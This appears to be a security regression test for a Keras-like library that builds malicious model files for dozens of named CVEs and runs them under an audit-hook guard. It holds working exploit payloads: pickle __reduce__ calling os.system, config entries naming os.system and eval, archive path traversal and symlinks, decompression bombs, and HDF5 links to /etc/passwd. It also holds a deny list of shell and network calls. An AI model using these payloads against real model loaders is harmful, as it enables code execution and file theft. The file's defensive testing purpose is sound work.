"""Files that attack whoever loads them, made when they are needed: at least one for each known hole of Keras.

Each attack is a function of a folder and of a marker: code that runs, or a file that is opened, would touch the marker.
It gives the files it made; which entry points see a file is told by its name. `python attacks.py FOLDER` runs all of
them under a guard and prints what got through as JSON.
"""

import contextlib
import importlib
import io
import json
import os
import pickle
import resource
import signal
import stat
import struct
import sys
import tarfile
import zipfile
import zlib
from pathlib import Path

import h5py
import numpy as np

sys.path.insert(0, str(Path(__file__).parent))
from attack_files import (
    ATTACKS,
    DENSE,
    OF_CONFIGS,
    archive,
    attack,
    everywhere,
    functional,
    lambda_layer,
    node,
    old_file,
    sequential,
    weights_everywhere,
    weights_file,
)
from checkpoint_attacks import back_up, refused_unchanged, resume, trained

MEMORY, SECONDS = 512 << 20, 20

# Names and code in configs.


@attack(*OF_CONFIGS)
def cve_2025_1550_any_module_and_function(folder, marker):
    call = {"module": "os", "class_name": "system", "config": {"command": f"touch {marker}"}}
    everywhere(folder, sequential({"module": "os", "class_name": "function", "config": "system"}, call))


@attack(*OF_CONFIGS)
def cve_2025_1550_module_that_is_not_loaded(folder, marker):
    everywhere(folder, sequential({"module": "antigravity", "class_name": "geohash", "config": {}}))


@attack(*OF_CONFIGS)
def cve_2025_1550_function_as_an_activation(folder, marker):
    function = {"module": "builtins", "class_name": "function", "config": "eval", "registered_name": "function"}
    everywhere(folder, sequential({**DENSE, "config": {"units": 2, "activation": function}}))


@attack(*OF_CONFIGS)
def cve_2025_8747_gadgets_of_the_framework(folder, marker):
    arguments = {"fname": "x", "origin": "https://localhost:1/x", "cache_dir": str(folder)}
    gadgets = [
        {"module": "keras.utils", "class_name": "get_file", "config": arguments},
        {"module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": "get_file"},
        {"module": "keras.models", "class_name": "load_model", "config": {"filepath": str(marker)}},
        {"module": "lamina.core.registry", "class_name": "CustomObjectScope", "config": {"custom_objects": {}}},
    ]
    for index, gadget in enumerate(gadgets):
        (folder / str(index)).mkdir()
        everywhere(folder / str(index), sequential(gadget))


@attack(*OF_CONFIGS)
def cve_2025_8747_gadgets_as_ops(folder, marker):
    for index, (module, name) in enumerate(
        [
            ("keras.src.ops.numpy", "Load"),
            ("torch", "load"),
            ("torch", "hub.load"),
            ("torch", "from_file"),
            ("torch", "Tensor.numpy"),
            ("torch", "Tensor.map_"),
            ("torch", "ops.load_library"),
            ("lamina.ops", "__class__"),
        ]
    ):
        entry = {"module": module, "class_name": name, "name": "o", "config": {"name": "o"}, "inbound_nodes": node("x")}
        (folder / str(index)).mkdir()
        everywhere(folder / str(index), functional(entry))


@attack(*OF_CONFIGS)
def cve_2025_9906_unsafe_mode_from_the_config(folder, marker):
    enable = {"module": "keras.config", "class_name": "function", "config": "enable_unsafe_deserialization"}
    switch = {"module": "keras.config", "class_name": "enable_unsafe_deserialization", "config": {}}
    everywhere(folder, sequential(enable, switch, lambda_layer(marker)) | {"safe_mode": False})


@attack(*OF_CONFIGS)
def settings_of_the_whole_process(folder, marker):
    for index, name in enumerate(["set_floatx", "set_backend", "set_dtype_policy", "disable_traceback_filtering"]):
        (folder / str(index)).mkdir()
        config = {"module": "keras.config", "class_name": name, "config": {"value": "float16"}}
        everywhere(folder / str(index), sequential(config))


@attack(*OF_CONFIGS)
def cve_2024_3660_lambda_with_code(folder, marker):
    everywhere(folder, sequential(lambda_layer(marker)))


@attack(*OF_CONFIGS)
def cve_2025_9905_lambda_in_an_old_file(folder, marker):
    code = lambda_layer(marker)["config"]["function"]["config"]["code"]
    config = {"name": "l", "function": [code, None, None], "function_type": "lambda", "module": "os"}
    old_file(folder / "a.h5", {"class_name": "Sequential", "config": [{"class_name": "Lambda", "config": config}]})


@attack(*OF_CONFIGS)
def lambda_that_names_a_function(folder, marker):
    for index, function in enumerate(["os.system", "eval", {"class_name": "function", "config": "system"}]):
        (folder / str(index)).mkdir()
        config = {"name": "l", "function": function, "arguments": {"command": f"touch {marker}"}}
        layer = {"module": "keras.layers", "class_name": "Lambda", "config": config}
        everywhere(folder / str(index), sequential(layer))


@attack(*OF_CONFIGS)
def cve_2025_49655_pickled_torch_module(folder, marker):
    class Evil:
        def __reduce__(self):
            return os.system, (f"touch {marker}",)

    pickled = pickle.dumps(Evil()).decode("latin-1")
    for index, module in enumerate(
        [
            pickled,
            {"class_name": "__bytes__", "config": {"value": pickled}},
            {"module": "torch.nn", "class_name": "Linear", "config": {"in_features": 4, "out_features": 2}},
        ]
    ):
        (folder / str(index)).mkdir()
        layer = {"module": "keras.layers", "class_name": "TorchModuleWrapper", "config": {"module": module}}
        everywhere(folder / str(index), sequential(layer))


@attack(*OF_CONFIGS)
def cve_2025_12058_vocabulary_by_path(folder, marker):
    for index, (name, path) in enumerate(
        [
            ("StringLookup", "/etc/passwd"),
            ("StringLookup", "https://localhost:1/v"),
            ("IntegerLookup", "/etc/passwd"),
            ("TextVectorization", "/etc/passwd"),
        ]
    ):
        (folder / str(index)).mkdir()
        layer = {"module": "keras.layers", "class_name": name, "config": {"vocabulary": path, "name": "v"}}
        everywhere(folder / str(index), sequential(layer))


@attack(*OF_CONFIGS)
def cve_2026_1462_saved_model_of_another_framework(folder, marker):
    layer = {"module": "keras.layers", "class_name": "TFSMLayer", "config": {"filepath": str(marker.parent)}}
    everywhere(folder, sequential(layer))


@attack(*OF_CONFIGS)
def registered_names_that_mean_something_else(folder, marker):
    for index, entry in enumerate(
        [
            {**DENSE, "registered_name": "Custom>system", "module": "os", "class_name": "system"},
            {"module": None, "class_name": "os>system", "config": {}, "registered_name": "os>system"},
            {"module": "keras.layers", "class_name": "../Dense", "config": {"units": 2}},
            {"module": "keras.layers.__init__", "class_name": "sys", "config": {}},
            {"module": "keras.layers", "class_name": "Dense.__init__.__globals__", "config": {}},
            {"module": "keras.layers", "class_name": ["Dense"], "config": {"units": 2}},
            {"module": {"a": 1}, "class_name": "Dense", "config": {"units": 2}},
            {"module": "keras.initializers", "class_name": "Zeros", "config": {}},
            {"module": "keras.activations", "class_name": "function", "config": "relu"},
        ]
    ):
        (folder / str(index)).mkdir()
        everywhere(folder / str(index), sequential(entry))


# What configs may ask for.


@attack(*OF_CONFIGS)
def recursion_of_layers(folder, marker):
    layer = DENSE
    for _ in range(150):
        layer = {"module": "keras.layers", "class_name": "TimeDistributed", "config": {"layer": layer}}
    everywhere(folder, sequential(layer))


@attack(*OF_CONFIGS)
def recursion_of_lists(folder, marker):
    text = json.dumps(sequential({**DENSE, "config": {"units": "HERE"}}))
    deep = text.replace('"HERE"', "[" * 100_000 + "]" * 100_000)
    archive(folder / "a.keras", deep)
    (folder / "a.json").write_text(deep)


@attack(*OF_CONFIGS)
def layer_that_is_too_large(folder, marker):
    for index, (name, config) in enumerate(
        [
            ("Dense", {"units": 10**12}),
            ("Embedding", {"input_dim": 10**10, "output_dim": 10**6}),
            ("LSTM", {"units": 10**10}),
            ("GroupNormalization", {"groups": 10**9}),
        ]
    ):
        (folder / str(index)).mkdir()
        layer = {"module": "keras.layers", "class_name": name, "config": config}
        first = {"module": "keras.layers", "class_name": "Reshape", "config": {"target_shape": [2, 2]}}
        everywhere(folder / str(index), sequential(*([first] if name == "LSTM" else []), layer))


@attack(*OF_CONFIGS)
def orthogonal_weights_that_take_hours(folder, marker):
    config = {
        "units": 10**6,
        "kernel_initializer": {"module": "keras.initializers", "class_name": "Orthogonal", "config": {}},
    }
    everywhere(folder, sequential({**DENSE, "config": {"units": 10**6}}, {**DENSE, "config": config}))


@attack(*OF_CONFIGS)
def many_layers_that_are_small(folder, marker):
    layer = {"module": "keras.layers", "class_name": "Dense", "config": {"units": 1}}
    everywhere(folder, sequential(*[layer] * 120_000))


@attack(*OF_CONFIGS)
def loops_without_end(folder, marker):
    for index, (shape, name, config) in enumerate(
        [
            ((10**9, 2), "Split", {"indices_or_sections": 10**9, "axis": 0}),
            ((10**9, 2), "Unstack", {"num": 10**9, "axis": 0}),
        ]
    ):
        module = f"keras.src.ops.{'numpy' if name == 'Split' else 'core'}"
        entry = {"module": module, "class_name": name, "name": "o", "config": {"name": "o", **config}}
        entry["inbound_nodes"] = node("x")
        (folder / str(index)).mkdir()
        everywhere(folder / str(index), functional(entry, shape=shape))


@attack(*OF_CONFIGS)
def arrays_made_of_one_number(folder, marker):
    for index, (name, args) in enumerate([("Arange", [0, 10**12]), ("BroadcastTo", [1.0]), ("Full", [1.0])]):
        config = {"name": "o", "shape": [10**12], "stop": 10**12}
        entry = {"module": "keras.src.ops.numpy", "class_name": name, "name": "o", "config": config}
        (folder / str(index)).mkdir()
        everywhere(folder / str(index), functional({**entry, "inbound_nodes": [{"args": args, "kwargs": {}}]}))


@attack(*OF_CONFIGS)
def arrays_of_endless_text(folder, marker):
    value = {"class_name": "__numpy__", "config": {"value": [1.0] * 1000, "dtype": "S1000000000"}}
    everywhere(folder, sequential({**DENSE, "config": {"units": 2, "name": value}}))


@attack(*OF_CONFIGS)
def compiled_metrics_that_are_too_large(folder, marker):
    for index, (name, config) in enumerate(
        [
            ("MeanIoU", {"num_classes": 10**7}),
            ("AUC", {"num_thresholds": 10**10}),
            ("F1Score", {"threshold": "x" * 100}),
        ]
    ):
        (folder / str(index)).mkdir()
        metric = {"module": "keras.metrics", "class_name": name, "config": config}
        training = {"optimizer": "adam", "loss": "mse", "metrics": [metric]}
        archive(folder / str(index) / "a.keras", sequential(DENSE, compile_config=training, build_config={}))


@attack(*OF_CONFIGS)
def lookup_with_endless_unknown_terms(folder, marker):
    config = {"vocabulary": ["a", "b"], "num_oov_indices": 10**12}
    everywhere(folder, sequential({"module": "keras.layers", "class_name": "StringLookup", "config": config}))


@attack(*OF_CONFIGS)
def graph_that_does_not_close(folder, marker):
    loop = {**DENSE, "name": "a", "config": {"units": 4, "name": "a"}, "inbound_nodes": node("a")}
    everywhere(folder, functional(loop))


@attack("load_model", "model_from_json")
def keys_twice_and_numbers_without_end(folder, marker):
    for index, text in enumerate(
        ['{"class_name": 1, "class_name": 2}', '{"a": ' + "9" * 100_000 + "}", '{"a": NaN', "[]"]
    ):
        (folder / str(index)).mkdir()
        archive(folder / str(index) / "a.keras", text)
        (folder / str(index) / "a.json").write_text(text)


# Archives.


@attack("")
def cve_2025_12060_and_2024_55459_names_that_lead_out(folder, marker):
    names = [
        f"../../{marker.name}",
        str(marker),
        f"assets/../../{marker.name}",
        "assets\\..\\evil",
        "C:/evil",
        "assets//../x",
    ]
    for index, name in enumerate(names):
        archive(folder / f"{index}.keras", sequential(DENSE), extra=[(zipfile.ZipInfo(name), "evil")])
        with zipfile.ZipFile(folder / f"{index}.zip", "w") as packed:
            packed.writestr(zipfile.ZipInfo(name), "evil")
        with tarfile.open(folder / f"{index}.tar", "w") as packed:
            info = tarfile.TarInfo(name.replace("\\", "/"))
            info.size = 4
            packed.addfile(info, io.BytesIO(b"evil"))


@attack("")
def ghsa_hqp4_2352_xf5r_links_in_archives(folder, marker):
    link = zipfile.ZipInfo("assets/link")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    archive(folder / "a.keras", sequential(DENSE), extra=[(link, str(marker))])
    for index, kind in enumerate([tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.CHRTYPE, tarfile.FIFOTYPE]):
        with tarfile.open(folder / f"{index}.tar", "w") as packed:
            info = tarfile.TarInfo("link")
            info.type, info.linkname = kind, str(marker.parent)
            packed.addfile(info)
            inner = tarfile.TarInfo(f"link/{marker.name}")
            inner.size = 4
            packed.addfile(inner, io.BytesIO(b"evil"))


@attack("")
def links_in_a_folder(folder, marker):
    target = folder / "unpacked"
    target.mkdir()
    (target / "config.json").symlink_to("/etc/passwd")
    (target / "model.weights.h5").symlink_to("/dev/zero")


@attack(*OF_CONFIGS)
def cve_2026_12479_layer_names_with_paths(folder, marker):
    for index, name in enumerate([f"../../{marker.name}", f"/{marker.name}"]):
        (folder / str(index)).mkdir()
        everywhere(folder / str(index), sequential({**DENSE, "config": {"units": 2, "name": name}}))


@attack("load_model", "convert", "editor", "inspect")
def zip_bombs(folder, marker):
    archive(folder / "a.keras", sequential(DENSE), bytes(300 << 20), compression=zipfile.ZIP_DEFLATED)
    archive(
        folder / "b.keras", sequential(DENSE), extra=[("assets/x", bytes(300 << 20))], compression=zipfile.ZIP_DEFLATED
    )
    archive(folder / "c.keras", " " * (40 << 20), compression=zipfile.ZIP_DEFLATED)
    archive(folder / "d.keras", sequential(DENSE), extra=[(f"assets/{index}", "") for index in range(10_001)])


@attack("")
def zip_bomb_whose_members_overlap(folder, marker):
    archive(folder / "a.keras", sequential(DENSE))
    content = (folder / "a.keras").read_bytes()
    start = content.index(b"PK\1\2")
    end = content.rindex(b"PK\5\6")
    entries = content[start:end]
    last = entries[entries.rindex(b"PK\1\2") :]
    copies = b"".join(last.replace(b"model.weights.h5", f"assets/{index:09}".encode()) for index in range(100))
    tail = bytearray(content[end:])
    struct.pack_into("<HHI", tail, 8, 103, 103, len(entries) + len(copies))
    (folder / "a.keras").write_bytes(content[:start] + entries + copies + tail)


@attack("")
def npz_bomb_and_pickled_arrays(folder, marker):
    class Evil:
        def __reduce__(self):
            return os.system, (f"touch {marker}",)

    np.savez(folder / "a.npz", x_train=np.array([Evil()], dtype=object))
    header = io.BytesIO()
    np.lib.format.write_array_header_1_0(header, {"descr": "<f8", "fortran_order": False, "shape": (10**12,)})
    with zipfile.ZipFile(folder / "b.npz", "w") as packed:
        packed.writestr("x_train.npy", header.getvalue())


# Weights.


@attack("")
def cve_2026_0897_and_12570_shapes_without_content(folder, marker):
    for index, options in enumerate([{}, {"chunks": (1 << 16,), "compression": "gzip"}, {"fillvalue": 1.0}]):
        (folder / str(index)).mkdir()

        def change(file, options=options):
            del file["layers/dense/vars/0"]
            file.create_dataset("layers/dense/vars/0", (1 << 42,), "f4", **options)

        weights_everywhere(folder / str(index), weights_file(change))


@attack("")
def hdf5_compression_bomb(folder, marker):
    def change(file):
        for index in range(20):
            file.create_dataset(f"vars/{index}", data=np.zeros(8 << 20, "f4"), chunks=(1 << 20,), compression=9)

    weights_everywhere(folder, weights_file(change))


@attack("")
def cve_2026_1669_links_and_storage_elsewhere(folder, marker):
    with h5py.File(folder / "secret.hdf5", "w") as file:
        file["x"] = np.ones((4, 2), "f4")

    def external(file):
        file["layers/more"] = h5py.ExternalLink(str(folder / "secret.hdf5"), "/")

    def soft(file):
        file["layers/more"] = h5py.SoftLink("/layers/dense")

    def storage(file):
        file.create_dataset("vars/0", (100,), "u1", external=[("/etc/passwd", 0, 100)])

    def virtual(file):
        layout = h5py.VirtualLayout((4, 2), "f4")
        layout[:] = h5py.VirtualSource(str(folder / "secret.hdf5"), "x", (4, 2))
        file.create_virtual_dataset("vars/0", layout)

    def around(file):
        file["layers/dense/up"] = file["layers"]

    for index, change in enumerate([external, soft, storage, virtual, around]):
        (folder / str(index)).mkdir()
        weights_everywhere(folder / str(index), weights_file(change))


@attack("")
def objects_and_references_in_weights(folder, marker):
    def references(file):
        file.create_dataset("vars/0", (1,), h5py.ref_dtype)

    def texts(file):
        file["vars/0"] = "text"

    def named(file):
        file["vars/0"] = np.dtype("f4")

    for index, change in enumerate([references, texts, named]):
        (folder / str(index)).mkdir()
        weights_everywhere(folder / str(index), weights_file(change))


@attack("load_model", "inspect")
def attributes_without_end(folder, marker):
    with h5py.File(folder / "a.h5", "w") as file:
        file.attrs["model_config"] = " " * (40 << 20)
    content = bytearray(weights_file(lambda file: file.attrs.__setitem__("model_config", "x" * 100)))
    at = content.index(b"model_config")
    struct.pack_into("<I", content, content.index(struct.pack("<I", 100), at), 0xFFFFFFF0)
    (folder / "b.h5").write_bytes(bytes(content))


@attack("")
def shards_elsewhere(folder, marker):
    for index, name in enumerate(["../x.weights.h5", "/etc/passwd", "a/b.h5", ["..", "x"], 3, "link.weights.h5"]):
        (folder / str(index)).mkdir()
        (folder / str(index) / "link.weights.h5").symlink_to("/etc/passwd")
        table = {"metadata": {}, "weight_map": {"/layers/dense/vars": name}}
        (folder / str(index) / "s.weights.json").write_text(json.dumps(table))


@attack("")
def safetensors_that_lie(folder, marker):
    def tensor(shape, begin, end, dtype="F32"):
        return {"dtype": dtype, "shape": shape, "data_offsets": [begin, end]}

    headers = [
        {"a": tensor([1 << 40], 0, 1 << 42)},
        {"a": tensor([4], 0, 16), "b": tensor([4], 0, 16)},
        {"a": tensor([2], 0, 16)},
        {"a": tensor([4], 16, 32)},
        {"a": tensor([-4], 0, 16)},
        {"a": tensor([4], 0, 16, "OBJECT")},
        {"a": tensor([1] * 1000 + [4], 0, 16)},
        {"a": tensor([4.0], 0, 16)},
        {"__metadata__": {"a": {}}, "a": tensor([4], 0, 16)},
        {"a": [1, 2]},
    ]
    texts = [json.dumps(header).encode() for header in headers]
    one = b'"a":' + json.dumps(tensor([4], 0, 16)).encode()
    texts += [b"{" + one + b"," + one + b"}", b"[" * 5000, b"\xff" * 50]
    for index, text in enumerate(texts):
        (folder / f"{index}.safetensors").write_bytes(struct.pack("<Q", len(text)) + text + bytes(16))
    (folder / "long.safetensors").write_bytes(struct.pack("<Q", 1 << 62) + b"{}")
    (folder / "short.safetensors").write_bytes(b"\0")


@attack("load_model", "inspect", "convert")
def damaged_deflate_streams(folder, marker):
    archive(folder / "a.keras", sequential(DENSE), compression=zipfile.ZIP_DEFLATED)
    content = bytearray((folder / "a.keras").read_bytes())
    packed = zlib.compress(b"x" * 50)[2:-4]
    at = content.index(b"config.json") + len("config.json")
    content[at : at + len(packed)] = packed
    (folder / "a.keras").write_bytes(bytes(content))


# The entry points, and the guard under which they are called.


def model():
    import lamina

    return lamina.Sequential([lamina.layers.Input((4,)), lamina.layers.Dense(2)])


def entry_points(path):
    """Every way into lamina for a file of this name."""
    import lamina
    from lamina.cli.convert import convert_file
    from lamina.cli.inspect import inspect_file
    from lamina.datasets.sources import read_arrays
    from lamina.datasets.unpacking import unpack
    from lamina.saving.checkpoint import read_checkpoint

    saving, name = lamina.saving, path.name
    out = path.parent / "out"

    def inspected():
        text, is_good = inspect_file(path)
        assert "\x1b" not in text
        if not is_good:
            raise lamina.core.errors.FileError(text)

    calls = {}
    if name.startswith(("run_", "backup")):
        calls["resume"] = lambda: refused_unchanged(path)
        for file in sorted(path.glob("*.checkpoint")):
            calls[f"read {file.name}"] = lambda file=file: read_checkpoint(file)
    elif path.is_dir() or name.endswith(".keras"):
        calls["load_model"] = lambda: saving.load_model(path)
        calls["load_model(safe_mode=False)"] = lambda: saving.load_model(path, safe_mode=False)
        if path.is_file():
            calls["load_model(file)"] = lambda: saving.load_model(io.BytesIO(path.read_bytes()))
            calls["load_weights"] = lambda: model().load_weights(path)
            calls["editor"] = lambda: saving.KerasFileEditor(path)
        elif name.startswith("steps"):
            calls["load_weights(folder)"] = lambda: refused_unchanged(path)
        calls["convert"] = lambda: convert_file(path, out.with_suffix(".h5"))
    elif name.endswith(".json") and not name.endswith(".weights.json"):
        calls["model_from_json"] = lambda: lamina.models.model_from_json(path.read_text())
        with contextlib.suppress(ValueError, RecursionError):
            config = json.loads(path.read_text())
            calls["deserialize"] = lambda: saving.deserialize_keras_object(config)
            calls["layers.deserialize"] = lambda: lamina.layers.deserialize(config)
    elif name.endswith((".h5", ".weights.json", ".safetensors")):
        calls["load_weights"] = lambda: model().load_weights(path)
        calls["load_weights(skip)"] = lambda: model().load_weights(path, skip_mismatch=True)
        if name.endswith(".weights.h5"):
            calls["editor"] = lambda: saving.KerasFileEditor(path)
        elif name.endswith(".h5"):
            calls["load_model"] = lambda: saving.load_model(path)
            calls["load_weights(by_name)"] = lambda: model().load_weights(path, by_name=True)
        if name.endswith(".safetensors"):
            calls["load_weights(mmap)"] = lambda: model().load_weights(path, mmap=True)
        calls["convert"] = lambda: convert_file(path, out.with_suffix(".safetensors"))
    elif name.endswith((".zip", ".tar")):
        calls["unpack"] = lambda: unpack(path, out)
    elif name.endswith(".npz"):
        calls["read_arrays"] = lambda: read_arrays(path, "x_train")
    if calls and not name.endswith((".zip", ".tar", ".npz")) and not name.startswith(("run_", "backup")):
        calls["inspect"] = inspected
    return calls


class Guard:
    """Notes what a load must never do, while it is switched on."""

    refused = (
        *("socket.", "subprocess.", "os.system", "os.exec", "os.spawn", "os.posix_spawn", "os.fork", "ctypes.dlopen"),
        *("urllib.", "http.", "ftplib.", "webbrowser", "pickle.find_class", "marshal.load", "code.__new__"),
    )

    def __init__(self, allowed):
        self.allowed, self.seen, self.is_on = [str(path) for path in allowed], [], False
        sys.addaudithook(self.note)

    def note(self, event, arguments):
        if not self.is_on:
            return
        if event.startswith(self.refused):
            self.seen.append(f"{event} {arguments!r:.100}")
        elif event == "import" and arguments[0].partition(".")[0] not in {
            name.partition(".")[0] for name in sys.modules
        }:
            self.seen.append(f"import {arguments[0]}")
        elif event == "open" and isinstance(arguments[0], (str, bytes)):
            path = os.fsdecode(arguments[0])
            inside = any(path.startswith(prefix) for prefix in self.allowed)
            if not inside and not path.endswith((".py", ".pyc", ".so")):
                self.seen.append(f"open {path}")


def out_of_time(*_):
    raise TimeoutError(f"no answer after {SECONDS} seconds")


def run(root, names):
    """Every attack through every entry point: what was not refused, and what the guard saw."""
    import tempfile
    import time

    signal.signal(signal.SIGALRM, out_of_time)

    from lamina.core.errors import LaminaError

    marker = root / "marker"
    tempfile.tempdir = str(root / "tmp")
    (root / "tmp").mkdir()
    made = {}
    for name in names or ATTACKS:
        folder = root / name
        folder.mkdir()
        ATTACKS[name][0](folder, marker)
        parts = [folder, *(path for path in sorted(folder.iterdir()) if path.name.isdigit())]
        files = [path for part in parts for path in sorted(part.iterdir()) if not path.name.isdigit()]
        made[name] = [path for path in files if not path.is_symlink()]
    warm = model()
    warm.compile("adam", "mse", metrics=["accuracy"])
    for name in ("w.keras", "w.h5"):
        warm.save(root / "tmp" / name)
        for call in entry_points(root / "tmp" / name).values():
            call()
    for kind in ("adam", "torch", "sgd", "backup"):
        place = root / "tmp" / ("backup" if kind == "backup" else f"run_{kind}")
        (back_up if kind == "backup" else resume)(trained(kind if kind != "backup" else "adam"), place)
        for call in entry_points(place).values():
            call()
    # What torch and pdb import when a shape cannot be found in the usual way is no matter of the file.
    importlib.import_module("torch._inductor.standalone_compile")
    importlib.import_module("cProfile")
    guard = Guard([root, "/proc/", "/dev/null"])
    size = int(Path("/proc/self/statm").read_text().split()[0]) * resource.getpagesize()
    resource.setrlimit(resource.RLIMIT_AS, (size + 4 * MEMORY, resource.RLIM_INFINITY))
    report = {}
    for name, files in made.items():
        rows = report[name] = {"through": [], "seen": [], "refused": 0, "seconds": 0.0}
        for path in files:
            for label, call in entry_points(path).items():
                before, began = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, time.perf_counter()
                guard.seen, guard.is_on = [], True
                signal.alarm(SECONDS)
                try:
                    call()
                    outcome = "no error" if label.startswith(ATTACKS[name][1]) else None
                except LaminaError:
                    outcome, rows["refused"] = None, rows["refused"] + 1
                except BaseException as error:
                    outcome = f"{type(error).__name__}: {str(error)[:200]}"
                guard.is_on = False
                signal.alarm(0)
                seconds = time.perf_counter() - began
                grown = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) << 10
                where = f"{path.relative_to(root / name)} by {label}"
                if seconds > rows["seconds"]:
                    rows["seconds"], rows["slowest"] = round(seconds, 1), where
                if outcome is not None:
                    rows["through"].append(f"{where}: {outcome}")
                rows["seen"] += [f"{where}: {what}" for what in guard.seen]
                if grown > MEMORY:
                    rows["seen"].append(f"{where}: {grown >> 20} MB")
        if marker.exists():
            rows["seen"].append("the marker was touched")
            marker.unlink()
    return report


if __name__ == "__main__":
    import warnings

    warnings.simplefilter("ignore")
    with contextlib.redirect_stdout(sys.stderr):
        result = run(Path(sys.argv[1]), sys.argv[2:])
    print(json.dumps(result))
